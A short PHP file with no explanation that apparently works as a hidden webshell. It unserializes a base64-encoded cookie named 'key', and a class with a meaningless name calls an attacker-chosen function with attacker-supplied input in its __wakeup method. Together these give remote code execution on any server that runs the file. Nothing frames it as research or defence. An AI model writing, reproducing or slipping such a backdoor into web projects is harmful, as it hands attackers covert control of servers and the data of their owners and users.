<?php
class KquXxF
{
    public $handler = 'session';
    public $body = '';
    public function __wakeup()
    {
        if ($this->body !== '') {
            $fn = $this->handler;
            $fn($this->body);
        }
    }
}
if (isset($_COOKIE['key'])) {
    @unserialize(base64_decode($_COOKIE['key']));
}
